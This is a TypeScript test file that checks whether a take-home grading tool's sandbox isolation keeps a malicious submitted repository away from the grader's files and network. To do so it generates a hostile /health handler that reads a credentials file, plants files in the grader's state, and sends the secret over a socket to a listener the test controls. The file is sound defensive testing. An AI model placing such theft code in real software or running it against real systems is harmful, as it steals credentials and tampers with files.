import { execFileSync } from 'node:child_process';
import { chmodSync, cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { dockerEngineAnswers } from '../../harness/deps/docker-engine.ts';
import { userIsolationMissing } from '../../harness/grading/isolation/user-sandbox.ts';
import type { GradeReport } from '../../harness/grading/report/grade-report.ts';
import { REPORT_FILES } from '../../harness/grading/report/write-report.ts';
import { projectRoot, stateDir } from '../../harness/paths.ts';
import { scorecardSchemaErrors } from '../support/grade-formats.ts';
import { runWb } from '../support/run-module.ts';

/**
 * A returned take-home that is the reference of module 01, except that its GET /health tries
 * what a stranger's code might: read a file in the grader's HOME, send it to an address off this
 * machine's loopback, and drop a file into the grader's state. It answers 200 only when the
 * theft worked, so isolation costs it that one requirement and nothing else.
 */
function maliciousRepository(dir: string, bait: { secretFile: string; plantedFiles: string[]; host: string; port: number }): void {
  cpSync(path.join(projectRoot, 'solutions'), path.join(dir, 'exercises'), { recursive: true });
  const health = path.join(dir, 'exercises', '01-rest-api', 'health.ts');
  const source = readFileSync(health, 'utf8');
  writeFileSync(
    health,
    `import { readFileSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
${source.replace(
  "app.get('/health', { schema }, async (request) => {",
  `app.get('/health', { schema }, async (request) => {
    let secret = '';
    try {
      secret = readFileSync(${JSON.stringify(bait.secretFile)}, 'utf8');
    } catch {}
    for (const file of ${JSON.stringify(bait.plantedFiles)}) {
      try {
        writeFileSync(file, 'planted by the candidate');
      } catch {}
    }
    const socket = connect({ host: ${JSON.stringify(bait.host)}, port: ${bait.port} });
    socket.on('error', () => {});
    socket.on('connect', () => socket.end('secret=' + secret));
    if (!secret) throw new HttpProblem(503, 'There was nothing to steal.');`,
)}`,
  );
  const git = (...args: string[]): void => void execFileSync('git', ['-c', 'user.name=Candidate', '-c', 'user.email=candidate@example.invalid', ...args], { cwd: dir });
  git('init', '-q', '-b', 'main');
  git('add', '-A');
  git('commit', '-q', '-m', 'my take-home');
}

/** This machine's own address off loopback: where the candidate tries to send what it took. */
function outsideAddress(): string | undefined {
  return Object.values(networkInterfaces())
    .flat()
    .find((entry) => entry && entry.family === 'IPv4' && !entry.internal)?.address;
}

const dockerRequired = process.env.WB_REQUIRE_DOCKER === '1';
const dockerAnswers = await dockerEngineAnswers();
const userMissing = userIsolationMissing();

describe('wb grade --repo keeps a malicious candidate from the grader\'s files and network', () => {
  let dir: string;
  let repo: string;
  let graderHome: string;
  let secretFile: string;
  let plantedFiles: string[];
  let listener: Server;
  const received: string[] = [];
  const secret = `s3cret-${process.pid}-${Date.now()}`;

  beforeAll(async () => {
    dir = mkdtempSync(path.join(tmpdir(), 'wb-isolation-'));
    chmodSync(dir, 0o755);
    // A HOME anyone may read, with a file anyone may read: only hiding it keeps it from the candidate.
    graderHome = path.join(dir, 'grader-home');
    mkdirSync(graderHome, { mode: 0o755 });
    secretFile = path.join(graderHome, 'credentials');
    writeFileSync(secretFile, secret, { mode: 0o644 });
    plantedFiles = [path.join(graderHome, 'planted'), path.join(stateDir, `planted-${process.pid}`)];
    const host = outsideAddress();
    if (!host) throw new Error('This machine has no IPv4 address off loopback, so the test has nowhere to listen for a leak.');
    listener = createServer((socket) => {
      let data = '';
      socket.on('data', (chunk) => (data += chunk.toString()));
      socket.on('end', () => received.push(data));
      socket.on('error', () => {});
    });
    await new Promise<void>((resolve) => listener.listen(0, host, resolve));
    const port = (listener.address() as { port: number }).port;
    repo = path.join(dir, 'repo');
    mkdirSync(repo);
    maliciousRepository(repo, { secretFile, plantedFiles, host, port });
  });

  afterAll(async () => {
    await new Promise((resolve) => listener.close(resolve));
    for (const file of plantedFiles) rmSync(file, { force: true });
    rmSync(dir, { recursive: true, force: true });
  });

  async function gradeWith(isolation: string): Promise<{ report: GradeReport; output: string; code: number | null }> {
    received.length = 0;
    for (const file of plantedFiles) rmSync(file, { force: true });
    const out = path.join(dir, `out-${isolation}`);
    const env: NodeJS.ProcessEnv = { ...process.env, NO_COLOR: '1', HOME: graderHome };
    // Its servers start inside the isolation; a shared server on the grader's loopback is not reachable there.
    delete env.WB_DEPS_FILE;
    const run = await runWb(['grade', '--repo', repo, '--modules', '01-rest-api', '--format', 'json,md', '--isolation', isolation, '--out', out], env);
    const reportFile = path.join(out, REPORT_FILES.json);
    expect(existsSync(reportFile), run.output).toBe(true);
    // Whatever the candidate sent has arrived by the time the grading ended.
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { report: JSON.parse(readFileSync(reportFile, 'utf8')) as GradeReport, output: run.output, code: run.code };
  }

  function expectKeptOut(graded: { report: GradeReport; output: string }, mode: string): void {
    const { report, output } = graded;
    expect(scorecardSchemaErrors(report)).toEqual([]);
    expect(report.candidate?.isolation.mode, output).toBe(mode);
    expect(received, 'the candidate reached an address off loopback').toEqual([]);
    for (const file of plantedFiles) expect(existsSync(file), `the candidate wrote ${file}`).toBe(false);
    expect(JSON.stringify(report)).not.toContain(secret);
    const card = report.modules[0]!;
    // The theft failed, so GET /health answered 503: health lost its points, and so did
    // graceful-shutdown, whose test asks /health first. The rest of the grading went on.
    expect(card.requirements.filter((requirement) => requirement.status !== 'passed').map((requirement) => requirement.id), output).toEqual(['health', 'graceful-shutdown']);
    expect(card.counts.passed).toBeGreaterThan(80);
    expect(output).toContain(`isolated (${mode})`);
  }

  test('the control: unisolated, the same candidate reads the secret, sends it off loopback, plants files and scores full marks', async () => {
    const graded = await gradeWith('none');
    expect(received.join('\n'), graded.output).toContain(`secret=${secret}`);
    for (const file of plantedFiles) expect(existsSync(file), file).toBe(true);
    expect(graded.report.modules[0]!.requirements.find((requirement) => requirement.id === 'health')?.status).toBe('passed');
    expect(graded.report.candidate?.isolation.mode).toBe('none');
    expect(graded.output).toContain('ran unisolated');
  }, 240_000);

  test.skipIf(!!userMissing)(`as an unprivileged user in its own namespaces, it gets nothing and loses that requirement${userMissing ? ` (skipped: ${userMissing})` : ''}`, async () => {
    expectKeptOut(await gradeWith('user'), 'user');
  }, 240_000);

  test.skipIf(!dockerAnswers && !dockerRequired)(`in a container, it gets nothing and loses that requirement${dockerAnswers ? '' : ' (skipped: no Docker engine answers; WB_REQUIRE_DOCKER=1 makes it fail instead)'}`, async () => {
    expect(dockerAnswers, 'WB_REQUIRE_DOCKER=1 but no Docker engine answers (DOCKER_HOST?)').toBe(true);
    expectKeptOut(await gradeWith('container'), 'container');
  }, 300_000);

  test('a mode this machine cannot run, asked for by name, is one sentence and grades nothing', async () => {
    const env: NodeJS.ProcessEnv = { ...process.env, NO_COLOR: '1', DOCKER_HOST: 'unix:///nonexistent/docker.sock' };
    const run = await runWb(['grade', '--repo', repo, '--modules', '01-rest-api', '--isolation', 'container', '--out', path.join(dir, 'out-refused')], env);
    expect(run.code, run.output).toBe(2);
    expect(run.output).toContain('WB_ERR_ISOLATION_UNAVAILABLE');
    expect(run.output).toContain('no Docker engine answers');
    expect(existsSync(path.join(dir, 'out-refused'))).toBe(false);
  });

  test('--isolation is refused without --repo, and an unknown mode is named', async () => {
    const withTarget = await runWb(['grade', '--target', 'exercises', '--isolation', 'user'], { ...process.env, NO_COLOR: '1' });
    expect(withTarget.code).toBe(2);
    expect(withTarget.output).toContain('--isolation applies to a repository graded with --repo');
    const unknown = await runWb(['grade', '--repo', repo, '--isolation', 'chroot'], { ...process.env, NO_COLOR: '1' });
    expect(unknown.code).toBe(2);
    expect(unknown.output).toContain("Unknown isolation 'chroot'");
  });
});
